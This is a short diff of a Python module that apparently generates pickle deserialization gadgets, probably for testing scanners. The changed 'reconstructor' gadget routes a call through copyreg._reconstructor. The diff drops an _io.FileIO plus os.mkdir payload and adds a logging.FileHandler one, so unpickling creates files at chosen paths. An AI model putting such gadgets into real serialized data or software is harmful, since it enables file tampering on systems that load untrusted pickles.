@@ -240,10 +240,8 @@ def _indirect() -> Iterator[Gadget]:
     )
     yield of(
         "reconstructor",
-        lambda m: (
-            call("copyreg", "_reconstructor", (Raw(name("_io", "FileIO")), Raw(name("_io", "FileIO")), m))
-            + b"0"
-            + call("os", "mkdir", (m,))
+        lambda m: call(
+            "copyreg", "_reconstructor", (Raw(name("logging", "FileHandler")), Raw(name("logging", "FileHandler")), m)
         ),
     )
     yield of(
